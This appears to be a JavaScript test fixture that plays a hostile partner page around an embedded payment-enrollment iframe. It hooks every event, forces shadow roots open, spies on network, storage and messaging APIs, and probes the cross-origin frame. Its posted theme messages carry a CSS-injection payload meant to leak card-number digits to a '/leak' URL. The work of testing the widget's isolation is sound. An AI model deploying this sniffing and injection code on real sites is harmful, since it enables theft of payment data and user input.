// Runs first on the hostile partner page of hostile-page.e2e.spec.ts: listens to everything a page can, and reaches for the rest.
// What it learns, as text by channel, lies in `window.heard`; how its attempts to reach into the frame ended, in `window.reached`.
(() => {
  const heard = { event: [], message: [], mutation: [], storage: [], cookie: [], database: [], request: [], posted: [], performance: [], element: [], shadow: [] };
  const reached = [];
  const MOST = 20_000;
  const seen = new Set();
  const learn = (channel, text) => {
    const key = `${channel} ${text}`;
    if (seen.has(key) || heard[channel].length >= MOST) return;
    seen.add(key);
    heard[channel].push(text);
  };
  /** Any value as text, at most a few levels deep; times and places on the screen are left out, they would hold any digits. */
  const told = (value, depth = 0) => {
    if (typeof value === 'string') return value;
    if (value === null || typeof value !== 'object') return typeof value === 'number' && !Number.isInteger(value) ? '' : String(value);
    if (depth > 3) return '';
    if (value instanceof Node) return value.outerHTML ?? value.textContent ?? '';
    if (value instanceof Window) return '[window]';
    if (value instanceof Blob || value instanceof ArrayBuffer) return '[bytes]';
    const parts = [];
    for (const name in value) {
      if (/timeStamp|^(client|screen|page|offset|layer|movement)[XY]$|^(x|y|view|currentTarget|path)$/.test(name)) continue;
      try { parts.push(`${name}=${told(value[name], depth + 1)}`); } catch { /* not readable */ }
    }
    return parts.join(' ');
  };

  // every event there is, before anybody else, on window and document
  const types = new Set(['mpp-ready', 'mpp-step', 'mpp-done', 'mpp-error', 'DOMContentLoaded', 'beforeinput', 'compositionstart', 'compositionupdate', 'compositionend', 'focusin', 'focusout', 'securitypolicyviolation', 'selectionchange']);
  for (const one of [window, document, HTMLElement.prototype, HTMLIFrameElement.prototype]) {
    for (let at = one; at; at = Object.getPrototypeOf(at)) for (const name of Object.getOwnPropertyNames(at)) if (name.startsWith('on')) types.add(name.slice(2));
  }
  const hear = event => {
    const text = `${event.type}: ${told(event)} ${event.composedPath().map(e => e.nodeName ?? '').join('/')}`;
    learn(event.type === 'message' ? 'message' : 'event', event.type === 'message' ? `${event.origin} ${JSON.stringify(event.data)} ${event.ports.length}` : text);
    learn('element', `value ${event.target?.value ?? ''} ${document.activeElement?.outerHTML ?? ''}`);
  };
  for (const target of [window, document]) for (const type of types) target.addEventListener(type, hear, { capture: true, passive: true });

  // the tree, shadow trees included: those of the page are forced open
  const watch = root => new MutationObserver(list => {
    for (const m of list) learn('mutation', `${m.type} ${m.attributeName ?? ''} ${m.oldValue ?? ''} ${[...m.addedNodes, m.target].map(n => n.outerHTML ?? n.textContent).join(' ')}`);
  }).observe(root, { subtree: true, childList: true, attributes: true, characterData: true, attributeOldValue: true, characterDataOldValue: true });
  watch(document);
  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (options) {
    const root = attachShadow.call(this, { ...options, mode: 'open' });
    watch(root);
    (window.roots ??= []).push(root);
    return root;
  };

  // whatever leaves or is written through a function of the page
  const spy = (object, name, channel) => {
    const real = object?.[name];
    if (typeof real !== 'function') return;
    object[name] = function (...args) {
      learn(channel, `${name}(${args.map(a => told(a)).join(', ')})`);
      return new.target ? Reflect.construct(real, args, new.target === object[name] ? real : new.target) : real.apply(this, args);
    };
    object[name].prototype = real.prototype;
  };
  for (const name of ['fetch', 'WebSocket', 'EventSource', 'Request', 'Worker', 'SharedWorker', 'BroadcastChannel', 'open']) spy(window, name, 'request');
  for (const name of ['open', 'send', 'setRequestHeader']) spy(XMLHttpRequest.prototype, name, 'request');
  spy(Navigator.prototype, 'sendBeacon', 'request');
  for (const [object, name] of [[window, 'postMessage'], [MessagePort.prototype, 'postMessage'], [BroadcastChannel.prototype, 'postMessage']]) spy(object, name, 'posted');
  for (const name of ['setItem', 'getItem']) spy(Storage.prototype, name, 'storage');
  for (const [object, name] of [[IDBFactory.prototype, 'open'], [IDBObjectStore.prototype, 'put'], [IDBObjectStore.prototype, 'add']]) spy(object, name, 'database');
  for (const [object, name] of [[JSON, 'stringify'], [JSON, 'parse'], [History.prototype, 'pushState'], [History.prototype, 'replaceState'], [Element.prototype, 'setAttribute'], [Document.prototype, 'execCommand']]) spy(object, name, 'element');

  /** What must not be possible: the text of an error, or what was found. */
  const reach = (name, attempt) => {
    let found;
    try { found = attempt(); } catch (error) { found = error instanceof DOMException ? 'refused' : String(error); }
    if (found === null || found === undefined) found = 'nothing';
    if (!reached.includes(`${name}: ${told(found)}`)) reached.push(`${name}: ${told(found)}`);
  };
  const frameOf = () => document.querySelector('mpp-enroll')?.shadowRoot?.querySelector('iframe');
  const poll = async () => {
    for (const store of [localStorage, sessionStorage]) for (let i = 0; i < store.length; i++) learn('storage', `${store.key(i)}=${Reflect.get(store, store.key(i))}`);
    learn('cookie', document.cookie);
    for (const entry of performance.getEntries()) learn('performance', `${entry.entryType} ${entry.name}`);
    for (const { name } of await indexedDB.databases()) learn('database', name);
    learn('element', `${document.title} ${window.name} ${location.href} ${getSelection()} ${document.documentElement.outerHTML} ${(window.roots ?? []).map(r => r.innerHTML).join(' ')}`);
    const frame = frameOf();
    const inner = frame?.contentWindow;
    if (!inner) return;
    try { if (inner.location.href === 'about:blank') return; } catch { /* another origin: ours is in it */ }
    reach('contentDocument', () => frame.contentDocument);
    reach('getSVGDocument', () => frame.getSVGDocument?.());
    for (const name of ['document', 'name', 'localStorage', 'sessionStorage', 'indexedDB', 'history', 'navigator', 'performance', 'origin', 'fetch', 'eval', 'mpp', 'Stripe']) reach(name, () => inner[name]);
    reach('location.href', () => inner.location.href);
    reach('frames within', () => { for (let i = 0; i < inner.length; i++) void inner[i].document; return inner.length ? 'read' : null; });
    reach('addEventListener', () => inner.addEventListener('keydown', hear, true));
    for (const type of ['mpp:init', 'mpp:ready', 'mpp:state', 'mpp:get', 'mpp:debug']) {
      inner.postMessage({ type, theme: { font: `x; } input[value^="4"] { background: url(${location.origin}/leak)`, accent: `url(${location.origin}/leak)`, scheme: '<script>', radius: '9px;' }, locale: document.documentElement.lang, reply: true }, '*');
    }
  };
  setInterval(() => void poll(), 60);
  Object.assign(window, { heard, reached });
})();
